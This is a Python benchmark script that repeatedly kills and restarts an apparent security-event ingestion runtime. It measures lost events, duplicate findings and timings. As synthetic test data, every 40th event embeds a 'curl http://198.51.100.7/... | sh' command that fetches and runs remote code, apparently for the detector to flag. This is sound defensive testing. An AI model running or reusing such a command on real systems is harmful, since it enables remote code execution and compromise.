"""Kills a runtime again and again while events arrive over mutual TLS, then says what was lost and what was found twice.

python -m benchmarks.runtime_crash [EVENTS] [KILLS]
"""

from __future__ import annotations

import json
import sys
import tempfile
import threading
import time
from pathlib import Path

from tests.ingest.sender import request
from tests.runtime.running import Running, until
from tests.runtime.test_runtime import shell

IN_ONE_REQUEST = 100
EVERY = 40


def _bodies(events: int) -> list[bytes]:
    bodies = []
    for start in range(0, events, IN_ONE_REQUEST):
        lines = [
            shell(f"curl http://198.51.100.7/{n} | sh" if n % EVERY == 0 else f"ls {n}", serial=n, pid=n + 1_000_000)
            for n in range(start, start + IN_ONE_REQUEST)
        ]
        names = [f"event-{n}" for n in range(start, start + IN_ONE_REQUEST)]
        bodies.append(request("ws-01", "linux_audit", lines, ids=names))
    return bodies


def measure(events: int, kills: int) -> dict[str, float]:
    """Figures of one run."""
    with tempfile.TemporaryDirectory(prefix="nw-crash-") as folder:
        runtime = Running(Path(folder)).start().ready()
        try:
            return _measure(runtime, events, kills)
        finally:
            runtime.close()


def _measure(runtime: Running, events: int, kills: int) -> dict[str, float]:
    bodies, agent, done = _bodies(events), runtime.agent("ws-01"), threading.Event()
    tries: list[int] = []

    def deliver() -> None:
        tries.extend(agent.deliver(body) for body in bodies)
        done.set()

    begun = time.monotonic()
    threading.Thread(target=deliver, daemon=True).start()
    midway = 0
    for number in range(kills):
        mark = events * (number + 1) // (kills + 2)
        until(lambda mark=mark: done.is_set() or len(tries) * IN_ONE_REQUEST >= mark, 120)
        midway += not done.is_set()
        runtime.kill()
        runtime.start().ready()
    until(done.is_set, 300)
    acknowledged = time.monotonic() - begun
    until(lambda: runtime.ask("health")["waiting"] == 0, 300)
    worked = time.monotonic() - begun
    health = runtime.ask("health")
    (found, different), *_ = runtime.rows("SELECT COUNT(*), COUNT(DISTINCT id) FROM findings")
    return {
        "events": events,
        "kills": kills,
        "kills_while_events_arrived": midway,
        "lost": events - (health["records"] - health["duplicates"]),
        "findings": found,
        "findings_wanted": -(-events // EVERY),
        "findings_twice": found - different,
        "sent_again": sum(tries) - len(tries),
        "duplicates_dropped": health["duplicates"],
        "seconds_until_acknowledged": round(acknowledged, 2),
        "seconds_until_worked_on": round(worked, 2),
        "memory_mb": health["memory_mb"],
    }


if __name__ == "__main__":
    words = [int(word) for word in sys.argv[1:]]
    print(json.dumps(measure(*(words + [20_000, 6][len(words) :])), indent=2))
